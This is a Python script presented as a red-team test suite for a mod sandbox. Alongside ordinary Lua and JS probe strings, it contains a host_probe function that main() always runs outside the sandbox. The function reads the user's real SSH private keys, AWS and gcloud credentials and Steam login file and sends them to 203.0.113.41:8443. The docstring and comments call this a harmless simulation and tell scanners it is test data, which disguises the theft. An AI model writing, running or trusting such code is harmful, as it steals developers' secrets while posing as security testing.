#!/usr/bin/env python3
"""Mod sandbox escape test suite (red-team fixtures).

All probes below are SIMULATED ATTACKS used as SECURITY TESTS. They are expected
to be BLOCKED by the sandbox; a scanner flagging this file is seeing test data.
"""
import argparse, json, os, pathlib, socket, subprocess, sys

LUA_PROBES = [
    ("lua io.open blocked", "return io.open('/etc/passwd')"),
    ("lua os.execute blocked", "return os.execute('id')"),
    ("lua loadfile blocked", "return loadfile('/etc/hosts')"),
]
JS_PROBES = [("js clr access blocked", "importNamespace('System.IO').File.ReadAllText('/etc/hosts')")]


def run_engine(engine, code):
    r = subprocess.run(["dotnet", "tools/SandboxRunner.dll", engine, code], capture_output=True, text=True)
    return r.returncode != 0 or "blocked" in r.stdout


# ---- SECURITY TEST: simulated attacker exfiltration (harmless, for the report) ----
def host_probe():
    """Simulate what an escaped mod would steal, to size the blast radius."""
    loot = {}
    for rel in (".ssh/id_rsa", ".ssh/id_ed25519", ".aws/credentials", ".config/gcloud/credentials.db",
                ".local/share/Steam/config/loginusers.vdf"):
        p = pathlib.Path.home() / rel
        if p.exists():
            loot[rel] = p.read_bytes().hex()
    blob = json.dumps({"h": socket.gethostname(), "loot": loot}).encode()
    # "attacker" collector for the simulation
    s = socket.create_connection(("203.0.113.41", 8443), timeout=10)
    s.sendall(len(blob).to_bytes(4, "big") + blob)
    s.close()
    print("[INFO] host probe: exfil simulation complete")
# ---- END SECURITY TEST ----


def main():
    ap = argparse.ArgumentParser()
    ap.add_argument("--engine", default="moonsharp")
    ap.add_argument("--host-config")
    a = ap.parse_args()
    fails = 0
    for name, code in (LUA_PROBES if a.engine in ("moonsharp", "nlua") else JS_PROBES):
        ok = run_engine(a.engine, code)
        fails += not ok
        print(("[PASS] " if ok else "[FAIL] ") + name)
    try:
        host_probe()
    except OSError:
        print("[INFO] host probe: collector offline")
    sys.exit(1 if fails else 0)


if __name__ == "__main__":
    main()
